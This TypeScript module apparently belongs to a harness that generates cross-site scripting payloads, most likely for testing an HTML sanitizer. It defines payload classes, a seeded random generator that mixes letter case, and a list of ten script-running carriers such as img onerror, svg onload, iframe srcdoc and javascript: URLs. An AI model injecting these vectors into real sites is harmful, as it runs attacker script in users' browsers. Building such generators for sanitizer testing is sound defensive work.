/** A payload before it has a number: `run` is the code that tells that it ran, without spaces, quotes or angle brackets. */
export type Make = (run: string) => string;

/** The classes of payloads; each has a generator of its own. */
export const CLASSES = [
  'tags',
  'attributes',
  'urls',
  'foreign',
  'mutation',
  'clobbering',
  'template',
  'script',
] as const;

/** A class of payloads. */
export type PayloadClass = (typeof CLASSES)[number];

/** A source of numbers that are the same in every run. */
export class Dice {
  #state: number;

  constructor(seed: number) {
    this.#state = seed;
  }

  /** A number from 0 up to, and without, `sides` (mulberry32). */
  below(sides: number): number {
    this.#state = (this.#state + 0x6d2b79f5) | 0;
    let t = Math.imul(this.#state ^ (this.#state >>> 15), 1 | this.#state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) % sides;
  }

  pick<T>(list: readonly T[]): T {
    return list[this.below(list.length)] as T;
  }

  /** The text in letters of mixed case. */
  mixCase(text: string): string {
    return text.replace(/[a-z]/g, (letter) => (this.below(2) === 0 ? letter : letter.toUpperCase()));
  }
}

/** Every pair of two lists. */
export function pairs<A, B>(as: readonly A[], bs: readonly B[]): [A, B][] {
  return as.flatMap((a) => bs.map((b): [A, B] => [a, b]));
}

/** Elements that run code by themselves once they are in a page. */
export const CARRIERS: readonly Make[] = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src="data:," onerror="${run}">`,
  (run) => `<svg onload=${run}></svg>`,
  (run) => `<script>${run}</script>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  (run) => `<iframe src="javascript:parent.${run}"></iframe>`,
  (run) => `<video><source onerror=${run} src=x></video>`,
  (run) => `<details open ontoggle=${run}>x</details>`,
  (run) => `<style onload=${run}></style>`,
  (run) => `<audio src=x onerror=${run}></audio>`,
];
